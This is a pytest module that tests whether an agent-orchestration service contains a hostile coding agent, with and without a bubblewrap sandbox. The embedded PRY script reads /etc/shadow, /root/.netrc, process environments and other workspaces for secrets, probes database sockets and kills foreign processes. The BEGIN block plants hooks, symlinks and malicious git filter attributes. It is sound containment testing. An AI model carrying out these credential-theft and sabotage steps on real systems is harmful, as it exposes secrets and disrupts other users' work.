"""T5 and T7 through the whole loop: an agent that plants whatever git would run, pries into everything that it can name and kills whom it
can. The loop goes on over what it left: leftovers, bundle, import, push, check, merge, end. Nothing of it runs as us, nothing leaks.
"""

from __future__ import annotations

import os
import secrets
import signal
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings

from ops.local.home import prepare, write_private
from orchestrator.domain.status import TaskStatus
from orchestrator.models import Check, DecisionRecord, Diff, Event, JournalChunk, Session, Task, Workspace
from orchestrator.ports import Sandbox
from orchestrator.services import reviews, tasks
from orchestrator.services.recording import recorder
from tests.faults.test_t7_git_as_a_weapon import PLANTINGS
from tests.lab import Lab, lab, turns
from tests.repositories import Repository

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.faults,
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="without root the agents' account is the service's, at level none"),
]

# What an agent does that wants everything: what it can read it prints and commits, whom it can signal it kills.
PRY = r"""
import glob, os, signal, socket
me = os.getpid()
mine = {me, os.getppid(), 1}
home = os.environ["AO_PRY_HOME"]
doors = [os.environ["AO_PRY_DATABASE"], os.environ["AO_PRY_BROKER"]]
loot = open("loot.txt", "a")
def keep(what, data):
    print(what, data, flush=True)
    loot.write(f"{what} {data!r}\n")
for path in [*glob.glob(home + "/**", recursive=True), *glob.glob(os.environ["AO_PRY_ROOMS"] + "/*/*/*"), "/root/.netrc", "/etc/shadow"]:
    try:
        with open(path, "rb") as file:
            keep(path, file.read(100000))
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        with open(path, "rb") as file:
            data = file.read(100000)
        if int(path.split("/")[2]) not in mine and b"canary" in data:
            keep(path, data)
    except (OSError, ValueError):
        pass
for door in doors:
    for path in [door, *glob.glob(door + "/.s.*")]:
        try:
            with socket.socket(socket.AF_UNIX) as caller:
                caller.connect(path)
                keep("DOOR", path)
        except OSError:
            pass
for path in [os.environ["AO_PRY_MIRROR"] + "/config", os.environ["AO_PRY_MIRROR"] + "/objects/pack/x", home + "/x"]:
    try:
        open(path, "a").write("x")
        keep("WROTE", path)
    except OSError:
        pass
for entry in glob.glob("/proc/[0-9]*"):
    pid = int(entry.split("/")[2])
    try:
        owner = os.stat(entry).st_uid
        if pid not in mine and owner != os.getuid():
            os.kill(pid, signal.SIGKILL)
            keep("KILLED", pid)
    except OSError:
        pass
"""
GOES_ON = [
    "hooks",
    "hooks-of-the-worktree",
    "hooks-path",
    "fsmonitor",
    "programs",
    "attributes-outside-the-tree",
    "push-instead-of",
    "include",
    "worktree-config",
    "home-config",
    "refs-like-options",
]
WRECKS = sorted(set(PLANTINGS) - set(GOES_ON))
# The files are made older than the index at the end: or git would read them again, through the agent's own filter, which empties them.
BEGIN = r"""
C=$HOME/planted R=$HOME/.ao/repo.git D=$AO_PRY_DECOY M=$AO_PRY_MIRROR; export C R D M
printf '#!/bin/sh\nid -u >> %s\nexit 0\n' "$AO_PRY_LOG" > $C; chmod 755 $C; sh $C
ln -s /etc/passwd passwd; ln -s $M mirror; ln -s / everything
printf '* filter=evil diff=evil merge=evil\n' > .gitattributes
echo fixed >> README; git add -A; git commit -qm 'Fix it'
touch -d 2001-01-01 README pry.py src/a.py; git update-index -q --refresh
"""
AT_WORK = {
    TaskStatus.QUEUED,
    TaskStatus.STARTING,
    TaskStatus.WORKING,
    TaskStatus.CI_PENDING,
    TaskStatus.CI_FAILED,
}


def _script(*plantings: str) -> str:
    planted = "\n".join(f"( set -e\n{PLANTINGS[name]}\n) || true" for name in plantings)
    return turns(f"{BEGIN}\npython3 pry.py || true\n{planted}\n", "echo nothing more")


@dataclass(frozen=True, slots=True)
class Scene:
    """A loop with a hostile agent in it, and what it must not reach."""

    here: Lab
    decoy: Repository
    canaries: tuple[str, ...]
    log: Path
    bystander: subprocess.Popen[bytes]

    def ran_as(self) -> set[str]:
        return set(self.log.read_text().split())

    def everything_said(self) -> str:
        """All that people, programs and other agents can ever see of it."""
        rows: list[object] = [
            *JournalChunk.objects.order_by("run", "offset").values_list("data", flat=True),
            *Diff.objects.values_list("text", flat=True),
            *Event.objects.values_list("text", "data"),
            *Check.objects.values_list("failing_log", flat=True),
            *DecisionRecord.objects.values_list("reason", "why", "made"),
            *(
                str(recorder.unpack(bytes(facts), version=1))
                for facts in DecisionRecord.objects.values_list("facts", flat=True)
            ),
            *Task.objects.values_list("reason", "evidence"),
        ]
        told = [
            bytes(row).decode(errors="replace") if isinstance(row, memoryview | bytes) else str(row) for row in rows
        ]
        remote = self.here.repository.git("log", "-p", "--all", "--text").decode(errors="replace")
        return "\n".join([*told, remote])


@contextmanager
def scene(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    words = [f"canary-{secrets.token_hex(8)}" for _ in range(4)]
    in_environment, in_process, in_home, in_room = words
    monkeypatch.setenv("GITHUB_TOKEN", in_environment)  # of us, and so of hostkit, which we start
    files = {"README": "hello\n", "pry.py": PRY, "src/a.py": "a = 1\n"}
    check = {"plugin": "local", "checks": {"tests": "python3 pry.py || true; grep -q fixed README"}}
    with lab(files, sandbox=str(sandbox), scm=check) as here:
        if sandbox not in {Sandbox.NONE} | here.port.inner.facts().sandboxes:
            pytest.skip(f"{sandbox} does not work on this machine")
        service = prepare(here.folder / "service")
        for file in (service.client_file, service.path / "secret.key", service.data / "dump"):
            write_private(file, in_home)
        decoy = Repository(here.folder / "decoy.git")
        here.repository.git("clone", "-q", "--bare", str(here.repository.path), str(decoy.path))
        subprocess.run(["chmod", "-R", "a+rwX", str(decoy.path)], check=True)
        log = here.folder / "ran-as"
        log.touch()
        log.chmod(0o666)
        rooms = here.port.inner.facts().home + "/rooms"
        here.set(
            env={
                "AO_PRY_HOME": str(service.path),
                "AO_PRY_DATABASE": str(settings.DATABASES["default"]["HOST"]),
                "AO_PRY_BROKER": os.environ["REDIS_URL"].removeprefix("unix://"),
                "AO_PRY_ROOMS": rooms,
                "AO_PRY_MIRROR": str(here.tools.mirror(here.project).path),
                "AO_PRY_DECOY": str(decoy.path),
                "AO_PRY_LOG": str(log),
            }
        )
        neighbour = here.submit("Work next door", script="cat; echo ready; sleep 600")
        here.until(lambda: here.turn(neighbour).journal_size > 0, "the neighbour is at work")
        next_door = here.session(neighbour).workspace.name
        here.port.inner.write("home/secret", in_room.encode(), workspace=next_door)
        bystander = subprocess.Popen(["sleep", "600"], env={"SECRET": in_process})
        try:
            yield Scene(here, decoy, tuple(words), log, bystander)
            assert here.turn(neighbour).ended_at is None, "the neighbour's agent was killed"
            assert bystander.poll() is None, "a process of ours was killed"
        finally:
            bystander.send_signal(signal.SIGKILL)
            bystander.wait()


def _unharmed(at: Scene, *, settings_before: str, decoy_before: set[Path]) -> None:
    """Nothing ran as us, nothing of ours was changed, nothing leaked."""
    assert str(os.geteuid()) not in at.ran_as()
    mirror = at.here.tools.mirror(at.here.project)
    assert (mirror.path / "config").read_text() == settings_before
    assert not [path for path in mirror.path.rglob("*") if path.lstat().st_uid != os.geteuid() or path.is_symlink()]
    written = set(at.decoy.path.rglob("*")) - decoy_before
    assert not [path for path in written if path.lstat().st_uid == os.geteuid()]
    said = at.everything_said()
    assert not [word for word in at.canaries if word in said]
    # At the start of a line: the words stand in the committed program, too.
    assert not [line for line in said.splitlines() if line.startswith(("DOOR ", "WROTE ", "KILLED "))]


def _is_gone(here: Lab, task: Task) -> None:
    here.until(lambda: not Session.objects.live().filter(task=task).exists(), "its session is ended")
    here.until(
        lambda: not Workspace.objects.filter(session__task=task).exclude(state="removed").exists(), "its room is gone"
    )


@pytest.mark.parametrize("sandbox", [Sandbox.NONE, Sandbox.BUBBLEWRAP])
def test_a_hostile_agent_gets_its_change_merged_and_nothing_else(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    with scene(sandbox, monkeypatch) as at:
        here = at.here
        before = (here.tools.mirror(here.project).path / "config").read_text(), set(at.decoy.path.rglob("*"))
        task = here.submit(script=_script(*GOES_ON))
        here.reach(task, TaskStatus.FAILED)
        assert ".gitattributes" in task.reason
        assert here.tools.mirror(here.project).remote_sha(task.branch) is None
        tasks.retry(task=task, actor=here.me)
        here.reach(task, TaskStatus.REVIEW_PENDING)
        head = here.repository.ask("rev-parse", task.branch)
        assert here.repository.ask("show", f"{head}:README").endswith("fixed")
        reviews.submit_review(task=task, decision="approve", actor=here.other)
        here.reach(task, TaskStatus.MERGEABLE)
        tasks.request_merge(task=task, actor=here.me)
        here.reach(task, TaskStatus.MERGED)
        _is_gone(here, task)
        assert here.repository.ask("rev-list", "--merges", "--count", "main") == "1"
        assert not at.decoy.git("for-each-ref", f"refs/heads/{task.branch}")
        _unharmed(at, settings_before=before[0], decoy_before=before[1])


@pytest.mark.parametrize("sandbox", [Sandbox.NONE, Sandbox.BUBBLEWRAP])
@pytest.mark.parametrize("planting", WRECKS)
def test_whatever_an_agent_wrecks_its_task_says_where_it_stands_and_can_be_taken_down(
    planting: str, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    with scene(sandbox, monkeypatch) as at:
        here = at.here
        before = (here.tools.mirror(here.project).path / "config").read_text(), set(at.decoy.path.rglob("*"))
        task = here.submit(script=_script(planting))

        def stands() -> bool:
            task.refresh_from_db()
            return task.status not in AT_WORK

        here.until(stands, "it stands somewhere")
        assert task.reason
        assert len(task.reason) < 600
        assert task.reason.isprintable()
        if not task.outcome:
            tasks.cancel(task=task, actor=here.me)
        here.until(lambda: bool(Task.objects.get(pk=task.pk).outcome), "it ends")
        _is_gone(here, task)
        _unharmed(at, settings_before=before[0], decoy_before=before[1])
